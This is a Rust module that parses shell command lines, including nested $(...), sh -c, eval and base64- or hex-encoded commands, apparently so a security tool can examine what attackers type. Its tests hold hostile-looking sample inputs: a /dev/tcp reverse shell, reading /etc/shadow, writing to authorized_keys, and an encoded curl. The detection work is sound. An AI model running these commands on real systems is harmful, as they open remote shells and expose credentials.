//! Takes a command line apart into the simple commands that a shell would run.
//!
//! Quotes are respected; `;`, `&`, `&&`, `|`, `||`, newlines and parentheses end a command. What is hidden one level down
//! (`$(…)`, backquotes, `sh -c …`, `eval`, text piped into a shell, base64 or hex that is decoded on the spot) is taken
//! apart too. It is a reader for evidence and not a shell: variables and globs stay as they are written.

use base64::Engine;
use base64::alphabet::STANDARD;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use std::collections::VecDeque;
use std::iter::Peekable;
use std::mem::take;
use std::str::CharIndices;

/// How far down hidden commands are followed; each further level is a repetition that costs the attacker nothing.
const DEPTH_MAX: usize = 4;
/// Commands looked at in one line. Real sessions have been seen to send a few dozen at once.
const COMMANDS_MAX: usize = 256;
/// Text looked at in one line: many times what real commands need, and little enough that the worst of it is read well
/// within the deadline.
pub(crate) const LINE_BYTES_MAX: usize = 64 * 1024;

/// What stands before a command without being the command. Options and counts that follow it are skipped with it.
const WRAPPERS: &[&str] = &[
    "sudo", "doas", "busybox", "toybox", "nohup", "setsid", "exec", "command", "builtin", "time", "nice", "ionice",
    "stdbuf", "timeout", "env", "xargs", "watch", "chroot",
];
/// Words of the shell's grammar that may stand before a command.
const RESERVED: &[&str] = &["if", "then", "else", "elif", "do", "while", "until", "{", "}", "!", "[["];
pub(crate) const SHELLS: &[&str] = &["sh", "bash", "dash", "ash", "zsh", "ksh"];

/// One command with its arguments, quotes removed.
#[derive(Debug, Default, Clone, PartialEq)]
pub struct Command {
    /// As it was typed.
    pub text: String,
    /// `sudo`, `busybox` and their like, which stood in front.
    pub wrappers: Vec<String>,
    /// The program as it was typed; empty when the command only assigns or redirects.
    pub invoked: String,
    /// Its name without the folders.
    pub program: String,
    /// Everything after the program, and what is read by `<` and `<<<`.
    pub arguments: Vec<String>,
    /// `NAME=value` in front of the command.
    pub assignments: Vec<String>,
    /// Where its output is redirected.
    pub writes: Vec<String>,
    /// Its input is the output of the command before it.
    pub piped: bool,
}

/// The simple commands of a line in the order written, followed by those that were hidden in them.
pub fn commands(line: &str) -> Vec<Command> {
    let mut found = Vec::new();
    let start = line.get(..line.floor_char_boundary(LINE_BYTES_MAX)).unwrap_or(line);
    let mut waiting = VecDeque::from([(start.to_string(), 0)]);
    while let Some((text, depth)) = waiting.pop_front() {
        let (commands, mut hidden) = Scanner::new(&text).scan();
        let mut previous: Option<&Command> = None;
        for command in &commands {
            hidden.extend(hidden_in(command, previous));
            previous = Some(command);
        }
        found.extend(commands);
        if found.len() >= COMMANDS_MAX {
            found.truncate(COMMANDS_MAX);
            break;
        }
        if depth < DEPTH_MAX {
            waiting.extend(hidden.into_iter().map(|text| (text, depth.saturating_add(1))));
        }
    }
    found
}

/// Command lines that this command carries or makes.
fn hidden_in(command: &Command, previous: Option<&Command>) -> Vec<String> {
    let mut hidden = Vec::new();
    let program = command.program.as_str();
    let is_shell = SHELLS.contains(&program);
    if is_shell || program == "su" {
        hidden.extend(after_dash_c(&command.arguments));
    }
    if program == "eval" {
        hidden.push(command.arguments.join(" "));
    }
    if matches!(program, "echo" | "printf") && command.text.contains("\\x") {
        hidden.extend(command.arguments.iter().filter_map(|word| hex_escapes_decoded(word)));
    }
    let piped_from = previous.filter(|_| command.piped);
    if let Some(source) = piped_from.filter(|source| is_shell && matches!(source.program.as_str(), "echo" | "printf")) {
        hidden.push(source.arguments.join(" "));
    }
    if decodes_base64(command) {
        let words = piped_from.into_iter().flat_map(|source| &source.arguments).chain(&command.arguments);
        hidden.extend(words.filter_map(|word| base64_decoded(word)));
    }
    hidden
}

fn after_dash_c(arguments: &[String]) -> Option<String> {
    let mut words = arguments.iter();
    words.find(|word| word.starts_with('-') && !word.starts_with("--") && word.ends_with('c'))?;
    words.next().cloned()
}

pub(crate) fn decodes_base64(command: &Command) -> bool {
    let decodes = |word: &String| matches!(word.as_str(), "-d" | "-D" | "-di" | "--decode");
    matches!(command.program.as_str(), "base64" | "openssl") && command.arguments.iter().any(decodes)
}

/// Attackers' encoders leave the padding out as often as not.
fn base64_decoded(word: &str) -> Option<String> {
    const ANY_PADDING: GeneralPurpose = GeneralPurpose::new(
        &STANDARD,
        GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent),
    );
    /// Shorter words are options and file names that happen to be in the alphabet.
    const WORD_BYTES_MIN: usize = 8;
    let word = word.trim();
    if word.len() < WORD_BYTES_MIN {
        return None;
    }
    String::from_utf8(ANY_PADDING.decode(word).ok()?).ok()
}

/// `\x6F\x6B` as `ok`; none when there is no such escape, or when the bytes are not text.
fn hex_escapes_decoded(word: &str) -> Option<String> {
    let mut pieces = word.split("\\x");
    let mut decoded = pieces.next()?.as_bytes().to_vec();
    let mut any = false;
    for piece in pieces {
        let digits = piece.bytes().take(2).take_while(u8::is_ascii_hexdigit).count();
        let (code, rest) = piece.split_at_checked(digits)?;
        decoded.push(u8::from_str_radix(code, 16).ok()?);
        decoded.extend_from_slice(rest.as_bytes());
        any = true;
    }
    String::from_utf8(decoded).ok().filter(|_| any)
}

/// Where the next finished word goes.
#[derive(Clone, Copy)]
enum Destination {
    Word,
    Write,
    Read,
}

struct Scanner<'a> {
    text: &'a str,
    characters: Peekable<CharIndices<'a>>,
    commands: Vec<Command>,
    hidden: Vec<String>,
    /// The word being read. `Some("")` is an empty quoted word, and that counts as one.
    word: Option<String>,
    words: Vec<String>,
    reads: Vec<String>,
    writes: Vec<String>,
    destination: Destination,
    command_start: usize,
    piped: bool,
}

impl<'a> Scanner<'a> {
    fn new(text: &'a str) -> Self {
        Scanner {
            text,
            characters: text.char_indices().peekable(),
            commands: Vec::new(),
            hidden: Vec::new(),
            word: None,
            words: Vec::new(),
            reads: Vec::new(),
            writes: Vec::new(),
            destination: Destination::Word,
            command_start: 0,
            piped: false,
        }
    }

    fn scan(mut self) -> (Vec<Command>, Vec<String>) {
        while let Some((at, character)) = self.characters.next() {
            if self.commands.len() >= COMMANDS_MAX {
                break;
            }
            match character {
                '\\' => {
                    if let Some((_, escaped)) = self.characters.next().filter(|(_, next)| *next != '\n') {
                        self.push(escaped);
                    }
                }
                '\'' => self.single_quoted(),
                '"' => self.double_quoted(),
                '`' => self.backquoted(),
                '$' => self.dollar(),
                '>' => self.redirect(Destination::Write),
                '<' => self.redirect(Destination::Read),
                // `&>file` and `&>>file`
                '&' if self.peek() == Some('>') => self.end_word(),
                ';' | '\n' | '\r' | '&' | '|' | '(' | ')' => self.end_command(at, character),
                _ if character.is_whitespace() => self.end_word(),
                _ => self.push(character),
            }
        }
        self.end_command(self.text.len(), ';');
        (self.commands, self.hidden)
    }

    fn peek(&mut self) -> Option<char> {
        self.characters.peek().map(|(_, character)| *character)
    }

    fn push(&mut self, character: char) {
        self.word.get_or_insert_default().push(character);
    }

    fn single_quoted(&mut self) {
        let word = self.word.get_or_insert_default();
        for (_, character) in self.characters.by_ref() {
            if character == '\'' {
                break;
            }
            word.push(character);
        }
    }

    fn double_quoted(&mut self) {
        self.word.get_or_insert_default();
        while let Some((_, character)) = self.characters.next() {
            match character {
                '"' => break,
                '`' => self.backquoted(),
                '$' => self.dollar(),
                '\\' => match self.characters.next() {
                    Some((_, escaped @ ('"' | '\\' | '$' | '`'))) => self.push(escaped),
                    Some((_, other)) => {
                        self.push('\\');
                        self.push(other);
                    }
                    None => break,
                },
                _ => self.push(character),
            }
        }
    }

    fn backquoted(&mut self) {
        let inner: String = self
            .characters
            .by_ref()
            .map(|(_, character)| character)
            .take_while(|character| *character != '`')
            .collect();
        self.word.get_or_insert_default().push_str(&inner);
        self.hidden.push(inner);
    }

    /// `$(…)` is a command of its own; any other `$` is left in the word.
    fn dollar(&mut self) {
        self.push('$');
        if self.peek() != Some('(') {
            return;
        }
        self.characters.next();
        let mut inner = String::new();
        let mut open: usize = 1;
        for (_, character) in self.characters.by_ref() {
            match character {
                '(' => open = open.saturating_add(1),
                ')' => open = open.saturating_sub(1),
                _ => {}
            }
            if open == 0 {
                break;
            }
            inner.push(character);
        }
        self.word.get_or_insert_default().push_str(&format!("({inner})"));
        self.hidden.push(inner);
    }

    fn redirect(&mut self, destination: Destination) {
        // The digit of `2>` belongs to the redirection.
        if self.word.as_ref().is_some_and(|word| word.bytes().all(|byte| byte.is_ascii_digit())) {
            self.word = None;
        }
        self.end_word();
        while self.characters.next_if(|(_, character)| matches!(character, '>' | '<' | '&' | '|')).is_some() {}
        self.destination = destination;
    }

    fn end_word(&mut self) {
        let Some(word) = self.word.take() else {
            return;
        };
        match self.destination {
            Destination::Word => self.words.push(word),
            Destination::Write => self.writes.push(word),
            Destination::Read => self.reads.push(word),
        }
        self.destination = Destination::Word;
    }

    fn end_command(&mut self, end: usize, separator: char) {
        self.end_word();
        self.destination = Destination::Word;
        let text = self.text.get(self.command_start..end).unwrap_or_default().trim();
        let mut command = Command {
            text: text.to_string(),
            writes: take(&mut self.writes),
            piped: take(&mut self.piped),
            ..Command::default()
        };
        command.take_words(take(&mut self.words));
        command.arguments.append(&mut self.reads);
        let is_empty = command.text.is_empty();
        if !is_empty {
            self.commands.push(command);
        }
        // The second bar of `||` finds nothing since the first, and there is no pipe.
        self.piped = separator == '|' && !is_empty;
        self.command_start = end.saturating_add(separator.len_utf8());
    }
}

impl Command {
    /// Sorts the words into assignments, wrappers, the program and its arguments.
    fn take_words(&mut self, words: Vec<String>) {
        let mut words = words.into_iter().peekable();
        while let Some(word) = words.next() {
            let name = base_name(&word);
            if RESERVED.contains(&name) {
                continue;
            }
            if is_assignment(&word) {
                self.assignments.push(word);
            } else if WRAPPERS.contains(&name) && words.peek().is_some() {
                self.wrappers.push(name.to_string());
                skip_options(&mut words);
            } else {
                self.program = name.to_string();
                self.invoked = word;
                break;
            }
        }
        self.arguments.extend(words);
    }
}

/// Passes over a wrapper's options, the user of `sudo -u`, and the numbers of `nice -n 10` and `timeout 5s`.
fn skip_options(words: &mut Peekable<impl Iterator<Item = String>>) {
    let mut names_a_user = false;
    while let Some(word) = words
        .next_if(|word| names_a_user || word.starts_with('-') || word.starts_with(|first: char| first.is_ascii_digit()))
    {
        names_a_user = matches!(word.as_str(), "-u" | "-g");
    }
}

fn is_assignment(word: &str) -> bool {
    let Some((name, _)) = word.split_once('=') else {
        return false;
    };
    name.starts_with(|first: char| first.is_ascii_alphabetic() || first == '_')
        && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
}

fn base_name(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(line: &str) -> Vec<String> {
        commands(line).into_iter().map(|command| command.text).collect()
    }

    fn only(line: &str) -> Command {
        let found = commands(line);
        assert_eq!(found.len(), 1, "{found:?}");
        found.into_iter().next().unwrap()
    }

    #[test]
    fn separators_end_a_command_unless_quoted() {
        assert_eq!(texts("cd /tmp; a && b || c | d\ne & f"), ["cd /tmp", "a", "b", "c", "d", "e", "f"]);
        assert_eq!(texts(r#"echo "a; b" 'c && d' e\;f"#), [r#"echo "a; b" 'c && d' e\;f"#]);
        assert_eq!(texts("(crontab -l; echo x) | crontab -"), ["crontab -l", "echo x", "crontab -"]);
    }

    #[test]
    fn wrappers_and_assignments_are_seen_through() {
        let command = only("A=1 sudo -u root nohup /bin/busybox wget -q http://h/x");
        assert_eq!(command.program, "wget");
        assert_eq!(command.wrappers, ["sudo", "nohup", "busybox"]);
        assert_eq!(command.assignments, ["A=1"]);
        assert_eq!(only("timeout 5s nice -n 10 ./x").invoked, "./x");
        assert_eq!(only("sudo").program, "sudo");
    }

    #[test]
    fn redirections_are_kept_apart() {
        let command = only("echo x 2>/dev/null >> ~/.ssh/authorized_keys");
        assert_eq!(command.writes, ["/dev/null", "~/.ssh/authorized_keys"]);
        assert_eq!(command.arguments, ["x"]);
        assert_eq!(only("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1").writes, ["/dev/tcp/127.0.0.1/4444", "1"]);
        assert_eq!(only("cat < /etc/shadow").arguments, ["/etc/shadow"]);
    }

    #[test]
    fn hidden_commands_are_found() {
        assert_eq!(texts("ls $(which ls)"), ["ls $(which ls)", "which ls"]);
        assert_eq!(texts("sudo sh -c 'id; w'"), ["sudo sh -c 'id; w'", "id", "w"]);
        assert_eq!(texts("echo 'id' | bash"), ["echo 'id'", "bash", "id"]);
        assert_eq!(texts("eval `w`"), ["eval `w`", "w", "w"]);
        assert_eq!(texts(r#"printf '\x69\x64'"#), [r#"printf '\x69\x64'"#, "id"]);
        let decoded = texts("export X=$(echo Y3VybCAxMjcuMC4wLjE= | base64 -d); $X");
        assert!(decoded.contains(&"curl 127.0.0.1".to_string()), "{decoded:?}");
        assert!(texts("base64 -d <<< aWQ7IHVuYW1lIC1h").contains(&"uname -a".to_string()));
    }

    #[test]
    fn odd_input_is_survived() {
        for line in [
            "",
            " ",
            "\"",
            "'",
            "\\",
            "$(",
            "$((((",
            "`",
            ">",
            "|||",
            "&&&",
            "🦀 日本語; é",
            "\\x",
            "printf '\\x'",
            "base64 -d",
        ] {
            commands(line);
        }
        assert_eq!(commands(&"a;".repeat(10_000)).len(), COMMANDS_MAX);
        commands(&"日".repeat(LINE_BYTES_MAX));
        commands(&"$(".repeat(20_000));
        commands(&"sh -c '".repeat(5_000));
        assert_eq!(only(&format!("python3 -c {}", "A".repeat(18_000))).program, "python3");
    }
}
